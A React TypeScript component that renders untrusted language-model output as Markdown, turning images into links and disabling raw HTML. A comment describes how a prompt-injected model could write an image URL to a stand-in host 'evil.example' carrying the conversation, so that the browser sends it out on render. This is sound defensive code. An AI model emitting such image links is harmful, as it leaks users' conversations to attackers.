"use client";

import Markdown, { type MarkdownToJSX } from "markdown-to-jsx";
import { createContext, useContext, type AnchorHTMLAttributes, type ReactNode } from "react";

const LINK_REL = "noopener noreferrer nofollow";

/** Set inside a link, so an image there does not become a second link. */
const InsideLink = createContext(false);

function Link(props: AnchorHTMLAttributes<HTMLAnchorElement>) {
  return (
    <InsideLink.Provider value={true}>
      <a {...props} target="_blank" rel={LINK_REL} />
    </InsideLink.Provider>
  );
}

/**
 * A Markdown image becomes a link to it, never an <img>. An image is fetched the
 * moment it renders, without a click: a prompt-injected model could write
 * `![x](https://evil.example/?q=<the conversation>)` and the browser would send the
 * conversation out. A link waits for the user, and shows where it goes.
 * (The page's Content-Security-Policy also allows images from this origin only.)
 */
function ImageAsLink({ src, alt, title }: { src?: string; alt?: string; title?: string }) {
  const insideLink = useContext(InsideLink);
  const label = alt?.trim() || src || "image";
  // The sanitizer has already dropped javascript: and similar targets (src is then undefined).
  // Inside a link (`[![x](img)](url)`) the words are enough: a link in a link is invalid HTML.
  if (!src || insideLink) return <span>{label}</span>;
  return (
    <a href={src} title={title ?? src} target="_blank" rel={LINK_REL} data-markdown-image="">
      {label}
    </a>
  );
}

// One options object for every render: a new one each time would re-parse every message.
const OPTIONS: MarkdownToJSX.Options = {
  disableParsingRawHTML: true,
  forceBlock: true,
  overrides: {
    a: { component: Link },
    img: { component: ImageAsLink },
  },
};

/** Only the words of a link or an image: for text read out by a screen reader, where a link must not be a tab stop. */
function Words({ children, alt, src }: { children?: ReactNode; alt?: string; src?: string }) {
  return <span>{children ?? (alt?.trim() || src)}</span>;
}

const WORDS_ONLY: MarkdownToJSX.Options = { ...OPTIONS, overrides: { a: { component: Words }, img: { component: Words } } };

/**
 * Model output is untrusted text. markdown-to-jsx builds React elements (no
 * innerHTML), raw HTML in the text stays text, links get a URL sanitizer, and
 * images are shown as links. `wordsOnly`: the same text with no links, for a live region.
 */
export function MarkdownText({ text, wordsOnly = false }: { text: string; wordsOnly?: boolean }) {
  return <Markdown options={wordsOnly ? WORDS_ONLY : OPTIONS}>{text}</Markdown>;
}
